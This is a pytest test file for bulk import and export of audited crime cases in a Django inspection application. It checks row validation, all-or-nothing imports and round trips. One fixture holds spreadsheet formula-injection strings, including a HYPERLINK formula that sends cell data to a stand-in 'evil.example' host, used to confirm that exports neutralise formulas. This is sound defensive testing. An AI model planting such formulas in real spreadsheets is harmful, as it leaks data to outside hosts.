"""Bulk import of audited cases: dry run naming every bad row, all-or-nothing import, round trip."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from audits import case_sheet
from audits.models import AuditedCase, AuditedCrime, Inspection, RecordingError
from core.spreadsheets import spreadsheet_safe

pytestmark = pytest.mark.django_db

HEADER = ",".join(case_sheet.COLUMNS)
GOOD = [
    "IMP-1,incident_log,01/03/2024 09:00,no,yes,no,,Violence with injury,CR1,Violence with injury,01/03/2024 10:00,,",
    "IMP-1,incident_log,01/03/2024 09:00,no,yes,no,,Rape,CR2,Other sexual offences,03/03/2024 12:00,,misclassified",
    "IMP-2,safeguarding_referral,02/03/2024 14:30,yes,no,no,ref only,Stalking and harassment,,,,,not_recorded,no,"
    "not_known",
]


def upload(lines, name="cases.csv"):
    return SimpleUploadedFile(name, ("\n".join([HEADER, *lines]) + "\n").encode())


def counts():
    return AuditedCase.objects.count(), AuditedCrime.objects.count(), RecordingError.objects.count()


def dry_run(client, inspection, lines, mode="add", name="cases.csv"):
    return client.post(reverse("audits:case_import", args=[inspection.pk]), {"file": upload(lines, name), "mode": mode})


def confirm(client, inspection, response):
    return client.post(reverse("audits:case_import", args=[inspection.pk]),
                       {"confirm": "1", "token": response.context["token"], "mode": response.context["plan"].mode})


def test_template_downloads(world, client_for):
    client = client_for(world.people.inspector)
    rows = list(csv.reader(io.StringIO(client.get(reverse("audits:case_template", args=["csv"])).getvalue().decode(
        "utf-8-sig"))))
    assert rows == [case_sheet.COLUMNS]
    workbook = load_workbook(io.BytesIO(client.get(reverse("audits:case_template", args=["xlsx"])).content))
    assert workbook.sheetnames == ["Audited crimes", "Guide"]


def test_dry_run_then_confirmed_import(world, client_for):
    client = client_for(world.people.inspector)
    before = counts()
    preview = dry_run(client, world.inspection, GOOD)
    assert preview.context["plan"].ok and preview.context["counts"] == {"add": 2, "update": 0, "unchanged": 0}
    assert counts() == before  # a dry run writes nothing
    response = confirm(client, world.inspection, preview)
    assert response.status_code == 302
    assert counts() == (before[0] + 2, before[1] + 3, before[2] + 3)
    rape = AuditedCrime.objects.get(case__reference="IMP-1", expected_offence__name="Rape")
    assert sorted(rape.error_kinds) == ["misclassified", "recorded_late"]  # 51 hours: lateness derived
    case = AuditedCase.objects.get(reference="IMP-2")
    assert (case.auditor, case.crimes.get().domestic_abuse, case.notes, case.moderation_state) == (
        world.people.inspector, True, "ref only", "draft")
    assert AuditedCase.history.filter(reference="IMP-2", history_user=world.people.inspector).exists()
    assert RecordingError.history.filter(crime_id=rape.pk, history_user=world.people.inspector).count() == 2


BAD_ROWS = [
    (GOOD[0].replace("Violence with injury,CR1", "Dragon slaying,CR1"), "Row 2: expected_offence “Dragon slaying”"),
    (GOOD[0].replace("01/03/2024 09:00", "31/02/2024 09:00"), "Row 2: reported_at “31/02/2024 09:00” is not a date"),
    (GOOD[0].replace("01/03/2024 10:00", "28/02/2024 10:00"), "Row 2: A crime cannot be recorded before it was reported"),
    (GOOD[0].replace("01/03/2024 09:00", "01/08/2024 09:00").replace("01/03/2024 10:00", "01/08/2024 10:00"),
     "Row 2: The report date must fall within the audit period"),
    (GOOD[0][:-1] + ",not_recorded", "Row 2: “Not recorded” can only be recorded against a crime the force did not"),
    (GOOD[0].replace("incident_log", "carrier pigeon"), "Row 2: source “carrier pigeon”"),
    (GOOD[0].replace(",no,yes,no,", ",no,perhaps,no,"), "Row 2: vulnerable_victim “perhaps” is not yes or no"),
    (GOOD[0].replace(",,\n", ",C9,"), None),
]


@pytest.mark.parametrize("bad,message", [b for b in BAD_ROWS if b[1]])
def test_a_bad_row_is_named_and_nothing_is_imported(world, client_for, bad, message):
    client = client_for(world.people.inspector)
    before = counts()
    preview = dry_run(client, world.inspection, [bad, *GOOD[1:]])
    assert not preview.context["plan"].ok
    assert message in preview.content.decode()
    assert "Confirm import" not in preview.content.decode()
    assert counts() == before


def test_rows_of_one_case_must_agree(world, client_for):
    lines = [GOOD[0], GOOD[1].replace("01/03/2024 09:00", "01/03/2024 09:30")]
    preview = dry_run(client_for(world.people.inspector), world.inspection, lines)
    assert "Row 3: case IMP-1 has different case details" in preview.content.decode()


def test_existing_references_are_refused_when_adding(world, client_for):
    line = GOOD[2].replace("IMP-2", "TVP-A-0001")
    preview = dry_run(client_for(world.people.inspector), world.inspection, [line])
    assert "Row 2: case TVP-A-0001 is already in this inspection" in preview.content.decode()


def test_a_locked_inspection_imports_nothing(world, client_for):
    Inspection.objects.filter(pk=world.inspection.pk).update(status="published")
    preview = dry_run(client_for(world.people.inspector), world.inspection, GOOD)
    assert "This inspection is published" in preview.content.decode() and not preview.context["plan"].ok


@pytest.mark.parametrize("content,name,message", [
    (b"reference,when\nA,1\n", "cases.csv", "The file has no column case_reference"),
    (b"\xff\xfe\x00bad", "cases.csv", "not UTF-8"),
    (b"not a workbook", "cases.xlsx", "not a readable .xlsx workbook"),
    (b"", "cases.csv", "The submitted file is empty"),
    (HEADER.encode() + b"\n", "cases.csv", "header but no rows"),
])
def test_unreadable_files_say_why(world, client_for, content, name, message):
    response = client_for(world.people.inspector).post(
        reverse("audits:case_import", args=[world.inspection.pk]),
        {"file": SimpleUploadedFile(name, content), "mode": "add"})
    assert message in response.content.decode()


def test_only_inspectors_import_and_confirming_needs_your_own_upload(world, client_for):
    assert client_for(world.people.staff_a).get(reverse("audits:case_import", args=[world.inspection.pk])
                                                ).status_code == 403
    preview = dry_run(client_for(world.people.inspector), world.inspection, GOOD)
    other = client_for(world.people.inspector2).post(
        reverse("audits:case_import", args=[world.inspection.pk]),
        {"confirm": "1", "token": preview.context["token"], "mode": "add"})
    assert other.status_code == 404 and not AuditedCase.objects.filter(reference="IMP-1").exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_re_imported_changes_nothing(world, client_for, fmt):
    client = client_for(world.people.inspector)
    confirm(client, world.inspection, dry_run(client, world.inspection, GOOD))
    export_and_re_import_changing_nothing(client, world.inspection, fmt, unchanged=3)


def export_and_re_import_changing_nothing(client, inspection, fmt, unchanged):
    exported = client.get(reverse("audits:case_export", args=[inspection.pk, fmt]))
    content = b"".join(exported.streaming_content) if exported.streaming else exported.content
    before = (counts(), AuditedCase.history.count(), AuditedCrime.history.count(), RecordingError.history.count())
    preview = client.post(reverse("audits:case_import", args=[inspection.pk]),
                          {"file": SimpleUploadedFile(f"export.{fmt}", content), "mode": "update"})
    plan = preview.context["plan"]
    assert plan.ok, plan.problems
    assert preview.context["counts"] == {"add": 0, "update": 0, "unchanged": unchanged}
    confirm(client, inspection, preview)
    assert (counts(), AuditedCase.history.count(), AuditedCrime.history.count(),
            RecordingError.history.count()) == before


def test_re_importing_a_changed_export_updates_instead_of_duplicating(world, client_for):
    client = client_for(world.people.inspector)
    confirm(client, world.inspection, dry_run(client, world.inspection, GOOD))
    exported = b"".join(client.get(reverse("audits:case_export", args=[world.inspection.pk, "csv"])).streaming_content)
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    for row in rows:
        if row[0] == "IMP-2":
            row[12] = "additional_crime_missed"
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    preview = client.post(reverse("audits:case_import", args=[world.inspection.pk]),
                          {"file": SimpleUploadedFile("x.csv", buffer.getvalue().encode()), "mode": "update"})
    assert preview.context["counts"] == {"add": 0, "update": 1, "unchanged": 2}
    confirm(client, world.inspection, preview)
    assert AuditedCase.objects.filter(reference="IMP-2").count() == 1
    assert AuditedCrime.objects.get(case__reference="IMP-2").error_kinds == ["additional_crime_missed"]


def csv_upload(rows, name="cases.csv"):
    buffer = io.StringIO()
    csv.writer(buffer).writerows([case_sheet.COLUMNS, *rows])
    return SimpleUploadedFile(name, buffer.getvalue().encode())


FORMULA_LIKE = [
    # reference, notes: each would be a formula in a spreadsheet if written as it is
    ['=HYPERLINK("http://evil.example/?x="&A2,"Open")', "incident_log", "01/03/2024 09:00", "no", "no", "no",
     "+44 ref", "Violence with injury", "CR9", "Violence with injury", "01/03/2024 10:00", "", ""],
    ["=1+1", "incident_log", "01/03/2024 09:00", "no", "no", "no", "-see CR8", "Rape", "", "", "", "",
     "not_recorded", "no", "not_known"],
    ["'=2+2", "incident_log", "01/03/2024 09:00", "no", "no", "no", "@note", "Rape", "", "", "", "",
     "not_recorded", "no", "yes"],
]


def import_formula_like_cases(client, inspection, rows):
    preview = client.post(reverse("audits:case_import", args=[inspection.pk]),
                          {"file": csv_upload(rows), "mode": "add"})
    assert preview.context["plan"].ok, preview.context["plan"].problems
    confirm(client, inspection, preview)


def test_the_xlsx_export_writes_formula_like_text_as_text(world, client_for):
    client = client_for(world.people.inspector)
    import_formula_like_cases(client, world.inspection, FORMULA_LIKE[:2])
    exported = client.get(reverse("audits:case_export", args=[world.inspection.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(exported.content)).worksheets[0]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    hyperlink = cells["'" + FORMULA_LIKE[0][0]]
    assert hyperlink.data_type == "s" and isinstance(hyperlink.value, str)
    assert not any(cell.data_type == "f" for cell in cells.values())
    assert not any(str(value).startswith(("=", "+", "-", "@")) for value in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_of_formula_like_text_re_imported_changes_nothing(world, client_for, fmt):
    client = client_for(world.people.inspector)
    # Escaped as our exports escape them, so that "'=2+2" is stored with its apostrophe.
    escaped = [[spreadsheet_safe(cell) for cell in row] for row in FORMULA_LIKE]
    import_formula_like_cases(client, world.inspection, escaped)
    stored = sorted(AuditedCase.objects.values_list("reference", "notes"))
    assert {(row[0], row[6]) for row in FORMULA_LIKE} <= set(stored)
    export_and_re_import_changing_nothing(client, world.inspection, fmt, unchanged=world.inspection.cases.count())
    assert sorted(AuditedCase.objects.values_list("reference", "notes")) == stored
